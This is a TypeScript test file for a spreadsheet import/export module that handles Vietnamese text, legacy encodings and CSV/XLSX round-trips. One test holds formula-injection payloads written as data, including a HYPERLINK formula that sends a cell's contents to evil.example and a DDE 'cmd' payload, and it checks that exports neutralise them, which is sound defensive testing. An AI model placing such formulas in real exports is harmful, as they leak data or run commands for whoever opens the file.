import assert from 'node:assert/strict';
import { test } from 'node:test';
import ExcelJS from 'exceljs';
import { encodeLegacy } from '../core/vietnamese/index.ts';
import { readTable, tableFormatOf, writeCsv, writeXlsx } from './spreadsheet.ts';

test('readTable: a CSV with a BOM and semicolons keeps the Vietnamese and the line numbers', async () => {
  const csv = Buffer.from('\ufeffSố hiệu;Trích yếu\n42/2022/NĐ-CP;"Quy định về; dịch vụ công"\n\n43/2022/NĐ-CP;Về đất đai\n');
  const table = await readTable(csv);
  assert.deepEqual(table.headers, ['Số hiệu', 'Trích yếu']);
  assert.deepEqual(table.rows.map((r) => [r.line, r.cells['Số hiệu'], r.cells['Trích yếu']]), [
    [2, '42/2022/NĐ-CP', 'Quy định về; dịch vụ công'],
    [4, '43/2022/NĐ-CP', 'Về đất đai'],
  ]);
});

test('readTable: a row after a cell with line breaks keeps the line it starts on', async () => {
  const table = await readTable(Buffer.from('Mã,Các bước\nA1,"Bước 1\nBước 2\nBước 3"\n\nA2,x'));
  assert.deepEqual(table.rows.map((r) => [r.line, r.cells['Mã']]), [[2, 'A1'], [6, 'A2']]);
  assert.equal(table.rows[0]?.cells['Các bước'], 'Bước 1\nBước 2\nBước 3');
});

test('readTable: text typed in TCVN3 comes back as Unicode, whether the file is UTF-8 or Windows-1252', async () => {
  const legacy = encodeLegacy('Quyết định về việc ban hành quy chế', 'tcvn3');
  const utf8 = await readTable(Buffer.from(`Co quan\n${legacy}\n`, 'utf8'));
  assert.equal(utf8.rows[0]?.cells['Co quan'], 'Quyết định về việc ban hành quy chế');
  const bytes = Buffer.from([...Buffer.from('Co quan\n', 'latin1'), ...[...legacy].map((ch) => windows1252Byte(ch)), 0x0a]);
  const old = await readTable(bytes);
  assert.equal(old.rows[0]?.cells['Co quan'], 'Quyết định về việc ban hành quy chế');
});

/** The Windows-1252 byte of a character (the inverse of TextDecoder('windows-1252')). */
function windows1252Byte(ch: string): number {
  const decoder = new TextDecoder('windows-1252');
  for (let b = 0; b < 256; b++) if (decoder.decode(Uint8Array.of(b)) === ch) return b;
  throw new Error(`no Windows-1252 byte for ${ch}`);
}

test('writeXlsx then readTable: the same rows, dates as text, found as XLSX by content', async () => {
  const bytes = await writeXlsx('Văn bản', ['Số hiệu', 'Ngày ban hành', 'Lượt tải'], [['42/2022/NĐ-CP', '2022-06-28', 3], ['43/2022/NĐ-CP', null, 0]]);
  assert.equal(tableFormatOf(bytes), 'xlsx');
  const table = await readTable(bytes);
  assert.deepEqual(table.rows.map((r) => r.cells), [
    { 'Số hiệu': '42/2022/NĐ-CP', 'Ngày ban hành': '2022-06-28', 'Lượt tải': '3' },
    { 'Số hiệu': '43/2022/NĐ-CP', 'Ngày ban hành': '', 'Lượt tải': '0' },
  ]);
});

test('writeCsv: BOM for Excel, quotes where needed', () => {
  const text = writeCsv(['Tên', 'Ghi chú'], [['Hà Nội', 'a, b'], ['Huế', null]]).toString('utf8');
  assert.equal(text, '\ufeffTên,Ghi chú\nHà Nội,"a, b"\nHuế,\n');
});

test('readTable: a file without a header or a binary file is refused with a message', async () => {
  await assert.rejects(readTable(Buffer.from('\n\n')), /header row/);
  await assert.rejects(readTable(Buffer.from([0, 1, 2, 3, 0, 0])), /neither CSV nor XLSX/);
});

test('exports neutralise text that a spreadsheet would run as a formula; numbers stay numbers; an export imports back as typed', async () => {
  const dangerous = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")', '+1+2', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', '  =cmd|\' /C calc\'!A0'];
  const rows: (string | number | null)[][] = [...dangerous.map((d, i) => [i + 1, d, -5]), [8, 'Góp ý bình thường - không sao', -1.5], [9, '-5', null]];
  const csv = writeCsv(['STT', 'Nội dung', 'Số'], rows).toString('utf8');
  for (const line of csv.split(/\r?\n/).slice(1, 8)) assert.match(line, /^\d,"?'/, `neutralised: ${JSON.stringify(line)}`);
  assert.match(csv, /\n8,Góp ý bình thường - không sao,-1\.5\n/, 'ordinary text and negative numbers are unchanged');
  assert.match(csv, /\n9,-5,\n/, 'a number written as text is data');

  const xlsx = await writeXlsx('Ý kiến', ['STT', 'Nội dung', 'Số'], rows);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(xlsx as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0]!;
  for (let r = 2; r <= 8; r++) {
    const cell = sheet.getRow(r).getCell(2);
    assert.equal(cell.type, ExcelJS.ValueType.String, 'a text cell, never a formula');
    assert.match(String(cell.value), /^'/);
  }
  assert.equal(sheet.getRow(2).getCell(3).value, -5, 'a negative number stays a number');

  for (const bytes of [Buffer.from(csv), xlsx]) {
    const table = await readTable(bytes);
    assert.deepEqual(table.rows.slice(0, 4).map((r) => r.cells['Nội dung']), dangerous.slice(0, 4));
  }
});

test('every CSV and XLSX export is written here: no other module writes CSV or workbooks itself', async () => {
  const { readdir, readFile } = await import('node:fs/promises');
  const root = new URL('../', import.meta.url);
  const files = (await readdir(root, { recursive: true })).filter((f) => /\.tsx?$/.test(f) && !/\.test\.tsx?$/.test(f) && !f.endsWith('platform/spreadsheet.ts'));
  const offenders: string[] = [];
  for (const f of files) if (/from '(csv-stringify[^']*|exceljs)'/.test(await readFile(new URL(f, root), 'utf8'))) offenders.push(f);
  assert.deepEqual(offenders, [], 'write tables through writeCsv/writeXlsx, which neutralise formulas');
});
